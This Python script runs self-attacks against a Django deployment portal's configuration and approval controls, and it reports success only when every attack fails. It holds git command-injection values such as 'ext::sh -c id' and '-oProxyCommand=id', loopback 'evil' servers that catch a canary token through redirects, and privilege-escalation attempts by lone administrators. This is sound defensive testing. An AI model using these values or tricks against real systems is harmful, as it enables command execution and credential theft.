"""Attacks on configuration and on who may sign: each is tried, and none may succeed.

Run by `make faults`. An attacker is an administrator, a superuser, a release manager or an approver
with nobody to help; evil hosts listen on loopback. Ends with 1 when an attack succeeds, or when an
honest change does not.
"""

# ruff: noqa: B023 - what is made in a loop is called before the loop goes on

from tests.scratch import scratch_database  # first: it sets Django up

# isort: split
import base64
import logging
import sys
import tempfile
import threading
from collections.abc import Callable, Iterable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from django.contrib.auth.models import Group, Permission, User
from django.core.management import CommandError, call_command
from django.db import DatabaseError, transaction
from django.test import Client
from django.test.utils import override_settings, setup_test_environment
from django.utils import timezone

TOKEN = "canary-token-of-github"
SENT = (TOKEN, base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode())
NEW_PASSWORD = "another good horse 27"
APPROVE, CONFIRM = "releases.approve_release", "portal.confirm_configurationchange"
ADDRESSES = (
    "/etc",
    "file:///etc",
    "../other.git",
    "ext::sh -c id",
    "fd::3",
    "--upload-pack=id",
    "-u",
    "ftp://h/x",
    "git://h/x",
    "http://github.com/acme/x.git",
    "https://me:word@github.com/a/b.git",
    "ssh://-oProxyCommand=id/x",
    "-oProxyCommand=id:x",
    "https://h/\nx",
    "https://h:99999/x",
    "https://[::1/x",
    "https://",
    "",
)


@dataclass(frozen=True)
class Attack:
    """One kind: `tries` gives, one after the other, whether a try succeeded."""

    name: str
    tries: Callable[[], Iterable[bool]]


class Listening:
    """A web server that keeps what it was sent; it asks for a password, or leads to `leads_to`."""

    def __init__(self, leads_to: str = "") -> None:
        seen: list[str] = []
        self.seen = seen

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                seen.append(f"{self.path} {self.headers} {body!r}")
                self.send_response(307 if leads_to else 401)
                name, message = (
                    ("Location", f"{leads_to}{self.path}")
                    if leads_to
                    else ("WWW-Authenticate", "Basic")
                )
                self.send_header(name, message)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *_: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()

    def stop(self) -> bool:
        """Ends it; whether it got a token."""
        self.server.shutdown()
        self.server.server_close()
        return any(word in one for one in self.seen for word in SENT)


class Scene:
    """A project in production with a release that bob approved; alice cut it, erin and dave
    administrate.
    """

    def __init__(self) -> None:
        from environments.models import Project, SmokeTest
        from releases.approvals import actions as approvals_actions
        from tests.factory import PASSWORD, make_people, make_project, make_promotion, make_release

        self.people = make_people()
        self.people["erin"] = User.objects.create_user("erin", password=PASSWORD, is_staff=True)
        self.people["erin"].groups.set(Group.objects.filter(name="Administrators"))
        self.project = make_project(required_approvals=1)
        SmokeTest.objects.create(project=self.project, service="backend", path="/health")
        make_promotion(make_release(self.project, by=self.people["alice"]), at="")
        self.project.releases.update(status="done")
        self.release = make_release(self.project, by=self.people["alice"], ready=True)
        approvals_actions.approve(self.release, actor=self.people["bob"])
        self.project = Project.objects.get(pk=self.project.pk)

    def client(self, name: str) -> Client:
        client = Client()
        client.force_login(self.people[name])
        return client

    @property
    def approved(self) -> bool:
        """Whether the release may go, as far as approvals are concerned."""
        from releases import gates
        from releases.gates.context import facts_of

        return gates.GATES["approved"](facts_of(self.release.pk)).passed


def scene() -> Iterator[Scene]:
    """A scene, and nothing left of it."""
    with transaction.atomic():
        yield Scene()
        transaction.set_rollback(True)


def works(act: Callable[[], Any]) -> bool:
    """Whether the action was let through."""
    from portal.ui.actions import Refused

    try:
        with transaction.atomic():
            act()
    except (Refused, DatabaseError):
        return False
    return True


# Where credentials go


def git_to_evil_hosts() -> Iterator[bool]:
    """An address of another host, of another port, behind an at-sign, and a redirect of the real
    host.
    """
    from environments.git.calls import GitError
    from environments.git.repository import Mirror

    evil = Listening()
    moved = Listening(leads_to=evil.url)
    at_sign = evil.url.replace("http://", "http://github.com:x@")
    hosts = [
        (evil.url, "https://github.com"),
        (at_sign, "https://github.com"),
        (evil.url, "http://127.0.0.1:1"),
        (moved.url, moved.url),
    ]
    for address, host in hosts:
        with tempfile.TemporaryDirectory() as place, suppress(GitError):
            Mirror(Path(place), f"{address}/acme/x.git", token=TOKEN, token_for=host).fetch(
                timeout=20
            )
    moved.stop()
    got = evil.stop()
    yield from [got] * len(hosts)


def apis_that_redirect() -> Iterator[bool]:
    """GitHub's and Railway's own address leads elsewhere, to a read and to a write."""
    from environments.github import GitHub
    from environments.railway import Railway
    from portal.outbound.http import ApiError

    evil = Listening()
    moved = Listening(leads_to=evil.url)
    given = {
        "GITHUB_API_URL": moved.url,
        "RAILWAY_API_URL": f"{moved.url}/graphql/v2",
        "GITHUB_TOKEN": TOKEN,
        "RAILWAY_API_TOKEN": TOKEN,
    }
    sha = "a" * 40
    calls: list[Callable[[], Any]] = [
        lambda: GitHub("acme/x").pull(1),
        lambda: GitHub("acme/x").set_status(
            sha, context="c", state="success", description="", target_url=""
        ),
        lambda: Railway().project("p"),
        lambda: Railway().deploy_commit("p", "s", sha),
    ]
    with override_settings(**given):
        for call in calls:
            with suppress(ApiError):
                call()
    moved.stop()
    yield from [evil.stop()] * len(calls)


def addresses_of_other_kinds() -> Iterator[bool]:
    """Paths, options, helper programs, clear text and passwords as a project's git address."""
    from environments.git.calls import GitError
    from environments.git_mirrors.clone import git_address

    for address in filter(None, ADDRESSES):
        for one in scene():
            one.project.git_url = address
            try:
                git_address(one.project, over_ssh=False)
            except GitError:
                yield False
            else:
                yield True


# One person alone


def fields_by_one_person() -> Iterator[bool]:
    """Every guarded field of a project in production, by the form of an administrator and of a
    superuser.
    """
    from releases.project_settings.guarded import Projects
    from tests.faults.denied_configuration import address, filled

    for name in ("erin", "dave"):
        for one in scene():
            client, path = one.client(name), address(one.project, "change")
            form = filled(client.get(path))
            before = Projects().read(one.project)
            for field in [field for field in form if field in before]:
                client.post(path, form | {field: other(form[field])})
                one.project.refresh_from_db()
                yield Projects().read(one.project) != before
            rows = [field for field in form if field.startswith(("smoke_tests-0-", "databases-0-"))]
            for field in [field for field in rows if not field.endswith(("-id", "-project"))]:
                client.post(path, form | {field: other(form[field])})
                yield Projects().read(one.project) != before
            for row in ("smoke_tests-0", "databases-0"):
                client.post(path, form | {f"{row}-DELETE": "on"})
                yield Projects().read(one.project) != before


def other(value: Any) -> Any:
    """Another value than that one, of its kind."""
    if isinstance(value, bool) or value == "on":
        return ""
    return str(int(value) + 1) if str(value).isdecimal() else f"{value or 'other'}x"


def database_addresses() -> Iterator[bool]:
    """Another database for staging and production, and forgetting the one that was set."""
    from environments.models import place_of
    from tests.faults.denied_configuration import address, filled

    url = "postgresql://portal:word@evil.example/x"
    for one in scene():
        client = one.client("dave")
        for environment in one.project.environments.filter(kind__in=["staging", "production"]):
            row = place_of(environment, one.project.databases.get())
            path = address(row, "change")
            client.post(path, filled(client.get(path)) | {"new_database_url": url})
            row.refresh_from_db()
            yield bool(row.url)


def own_confirmations() -> Iterator[bool]:
    """Confirming what one proposed, what is about oneself, without the right, and in the
    database itself.
    """
    from portal.configuration import actions
    from portal.models.configuration import ConfigurationChange

    for one in scene():
        people = one.people
        change = actions.propose(one.project, actor=people["dave"], values={"soak_minutes": 0})
        for name in ("dave", "alice", "carol"):
            yield works(lambda name=name: actions.confirm_change(change, actor=people[name]))
        rows = ConfigurationChange.objects.filter(pk=change.pk)
        now = timezone.now()
        yield works(lambda: rows.update(state="applied", decided_by=people["dave"], decided_at=now))
        yield works(lambda: rows.update(state="applied"))
        about = actions.propose(
            people["bob"], actor=people["erin"], values={"groups": ["Administrators"]}
        )
        yield works(lambda: actions.confirm_change(about, actor=people["bob"]))


def outdated_proposals() -> Iterator[bool]:
    """A proposal of somebody who lost the right, was shut out, or that began at other values."""
    from portal.configuration import actions

    for spoil in (
        lambda one: one.people["erin"].groups.clear(),
        lambda one: User.objects.filter(username="erin").update(is_active=False),
        lambda one: type(one.project).objects.update(soak_minutes=5),
    ):
        for one in scene():
            change = actions.propose(
                one.project, actor=one.people["erin"], values={"soak_minutes": 0}
            )
            spoil(one)
            yield works(lambda: actions.confirm_change(change, actor=one.people["bob"]))


def becoming_the_only_one() -> Iterator[bool]:
    """Shutting out, deleting or stripping everybody else who may confirm, and then acting alone."""
    from portal.configuration import actions
    from tests.faults.denied_configuration import address, filled

    for one in scene():
        client = one.client("dave")
        for name in ("bob", "erin"):
            person = one.people[name]
            form = filled(client.get(address(person, "change")))
            client.post(
                address(person, "change"), {k: v for k, v in form.items() if k != "is_active"}
            )
            client.post(address(person, "change"), form | {"groups": []})
            client.post(address(person, "delete"), {"post": "yes"})
        for group in Group.objects.all():
            client.post(address(group, "delete"), {"post": "yes"})
        made = actions.propose(one.project, actor=one.people["dave"], values={"soak_minutes": 0})
        yield made.state != "waiting"


def new_project_over_production() -> Iterator[bool]:
    """A fresh project, which one person sets up, that names a repository or Railway project in
    production.
    """
    from environments.models import Project
    from tests.faults.denied_configuration import filled

    for one in scene():
        client, path = one.client("dave"), "/admin/environments/project/add/"
        fresh = filled(client.get(path)) | {
            "name": "second",
            "slug": "second",
            "repository": "acme/second",
        }
        for taken in (
            {"repository": one.project.repository},
            {"repository": one.project.repository.upper()},
            {"railway_project_id": one.project.railway_project_id},
        ):
            client.post(path, fresh | taken)
            yield Project.objects.count() > 1
        client.post(path, fresh)
        second = Project.objects.get(slug="second")
        page = f"/admin/environments/project/{second.pk}/change/"
        client.post(
            page, filled(client.get(page)) | {"railway_project_id": one.project.railway_project_id}
        )
        second.refresh_from_db()
        yield second.railway_project_id == one.project.railway_project_id


# Rights


def rights_for_oneself() -> Iterator[bool]:
    """Roles, single permissions and flags for oneself, and more for a role one holds."""
    from portal.configuration.signing import may_sign
    from tests.faults.denied_configuration import address, filled

    for one in scene():
        approvers = Group.objects.get(name="Approvers")
        wanted = Permission.objects.get(codename="approve_release")
        User.objects.filter(username="dave").update(is_superuser=False)
        for name, gain in (
            ("erin", {"groups": [approvers.pk]}),
            ("erin", {"is_superuser": "on"}),
            ("erin", {"user_permissions": [wanted.pk]}),
            ("dave", {"groups": [approvers.pk]}),
            ("alice", {"groups": [approvers.pk]}),
        ):
            client, path = one.client(name), address(one.people[name], "change")
            page = client.get(path)
            if page.status_code == 200:
                client.post(path, filled(page) | gain)
            yield may_sign(User.objects.get(username=name), APPROVE)
        User.objects.filter(username="dave").update(is_superuser=True)
        administrators = Group.objects.get(name="Administrators")
        client, path = one.client("dave"), address(administrators, "change")
        client.post(path, filled(client.get(path)) | {"permissions": [wanted.pk]})
        yield may_sign(one.people["erin"], APPROVE)


def rights_for_a_puppet() -> Iterator[bool]:
    """An account of one's own making that is to sign, and the account of somebody who signs, by
    a new password.
    """
    from portal.configuration.signing import may_sign
    from tests.faults.denied_configuration import address, filled

    for one in scene():
        client, words = one.client("erin"), {"usable_password": "true"}
        words |= dict.fromkeys(("password1", "password2"), NEW_PASSWORD)
        role = {"groups": [Group.objects.get(name="Auditors").pk]}
        client.post("/admin/auth/user/add/", {"username": "puppet"} | role | words)
        puppet = User.objects.get(username="puppet")
        path = address(puppet, "change")
        gain = {"groups": [Group.objects.get(name="Approvers").pk], "is_staff": "on"}
        client.post(path, filled(client.get(path)) | gain)
        yield may_sign(puppet, APPROVE)
        client.post(address(one.people["bob"], "password"), words)
        yield User.objects.get(username="bob").check_password(NEW_PASSWORD)


# Signatures


def signatures_that_lapsed() -> Iterator[bool]:
    """An approval whose giver lost the role, was shut out or gave it to themselves, and one
    before a change.
    """
    from portal.configuration import actions
    from portal.models.configuration import RoleGrant

    def change(one: Scene) -> None:
        made = actions.propose(one.project, actor=one.people["erin"], values={"soak_minutes": 0})
        actions.confirm_change(made, actor=one.people["bob"])

    def own(one: Scene) -> None:
        approvers = Group.objects.get(name="Approvers")
        RoleGrant.objects.create(
            user=one.people["bob"], group=approvers, granted_by=one.people["bob"]
        )

    for spoil in (
        lambda one: one.people["bob"].groups.clear(),
        own,
        change,
        lambda one: User.objects.filter(username="bob").update(is_active=False),
    ):
        for one in scene():
            honest = one.approved
            spoil(one)
            yield not honest or one.approved


def other_signatures() -> Iterator[bool]:
    """Risks, rollbacks and downgrades by a role that the signer gave to themselves, or has lost
    since.
    """
    from environments.databases.migrate import migrate
    from environments.models import MigrationRun
    from portal.models.configuration import RoleGrant
    from releases.gates.context import facts_of
    from releases.models.approvals import RiskAcceptance
    from releases.rollback import actions as rollback_actions
    from tests.factory import make_advice, make_rollback

    for one in scene():
        bob, alice = one.people["bob"], one.people["alice"]
        RiskAcceptance.objects.create(
            project=one.project,
            release=one.release,
            revision="a",
            sha256="b",
            risks=[],
            user=bob,
            reason="fine",
        )
        make_advice(one.release)
        job = make_rollback(one.release, by=alice, approved_by=bob)
        honest = bool(rollback_actions.counted(job)) and bool(
            facts_of(one.release.pk).databases[0].planned.accepted
        )
        RoleGrant.objects.create(
            user=bob, group=Group.objects.get(name="Approvers"), granted_by=bob
        )
        yield not honest or bool(rollback_actions.counted(job))
        yield bool(facts_of(one.release.pk).databases[0].planned.accepted)
        content = job.content
        yield works(
            lambda: rollback_actions.approve_rollback(one.release, actor=bob, content=content)
        )
        run = MigrationRun.objects.create(
            environment=one.project.environments.get(kind="production"),
            commit="c" * 40,
            direction="downgrade",
            database=one.project.databases.get(),
            target=["x"],
            planned=[],
            requested_by=alice,
            approved_by=bob,
            wake_at=timezone.now(),
        )
        yield "may no longer" not in migrate(run, now=timezone.now()).sentence


# The sandbox


def sandbox_over_production() -> Iterator[bool]:
    """People with a known password in a database that was ever anything else, or without being
    asked for.
    """
    import json

    from environments.models import Project
    from portal import modes
    from portal.models.installation import Installation

    ready = {
        "repository": "acme/inspector",
        "project": "p",
        "alembic": "",
        "staging": "s",
        "production": "m",
    }

    def seeds(prepare: Callable[[], Any], *, asked: bool) -> bool:
        with transaction.atomic(), tempfile.TemporaryDirectory() as place:
            prepare()
            before = User.objects.count()
            with override_settings(SANDBOX=asked, VAR_DIR=Path(place)), suppress(CommandError):
                call_command("seed_sandbox", ready=json.dumps(ready), no_webhooks=True)
            made = User.objects.count() > before
            transaction.set_rollback(True)
        return made

    yield seeds(lambda: None, asked=False)
    yield seeds(lambda: Installation.objects.create(sandbox=False), asked=True)
    yield seeds(lambda: Project.objects.create(name="b", slug="b", repository="firm/b"), asked=True)
    yield seeds(lambda: User.objects.create_superuser("root"), asked=True)
    for name in modes.CONFIGURED:
        yield modes.asks_for_sandbox({name: "x"})
        with suppress(modes.WrongMode):
            yield modes.asks_for_sandbox({name: "x", "SANDBOX": "1"}) and name in (
                *modes.CREDENTIALS,
                "DATABASE_URL",
            )


ATTACKS = (
    Attack("git: the token for another host, port, or behind a redirect", git_to_evil_hosts),
    Attack("GitHub's and Railway's API lead elsewhere, token and all", apis_that_redirect),
    Attack("git address: path, option, helper, clear text, password", addresses_of_other_kinds),
    Attack("one person changes a guarded field of a project", fields_by_one_person),
    Attack("one person changes where the database is", database_addresses),
    Attack("confirming one's own change, or past the right", own_confirmations),
    Attack("confirming what its giver may no longer propose", outdated_proposals),
    Attack("becoming the only one who may confirm", becoming_the_only_one),
    Attack("a new project over what another one ships", new_project_over_production),
    Attack("a role, permission or flag for oneself", rights_for_oneself),
    Attack("a puppet that signs, or another's password", rights_for_a_puppet),
    Attack("an approval after its giver or the rules changed", signatures_that_lapsed),
    Attack("risks, rollbacks, downgrades signed past the right", other_signatures),
    Attack("the sandbox over a database of a real portal", sandbox_over_production),
)


def tried(attack: Attack) -> tuple[int, int]:
    """How often it was tried, and how often it succeeded."""
    found = list(attack.tries())
    return len(found), sum(found)


def main() -> int:
    """Prints one line for each attack; 0 when none succeeded."""
    logging.disable()  # each refusal would be told as an error of the server
    setup_test_environment()  # forms are looked into
    total = broken = 0
    print(f"{'Attack':62} {'tried':>6} {'succeeded':>10}")
    with scratch_database():
        for attack in ATTACKS:
            count, succeeded = tried(attack)
            total, broken = total + count, broken + succeeded + (not count)
            print(f"{attack.name:62} {count:6} {succeeded:10}", flush=True)
    print(f"{'all':62} {total:6} {broken:10}")
    return 1 if broken else 0


if __name__ == "__main__":
    sys.exit(main())
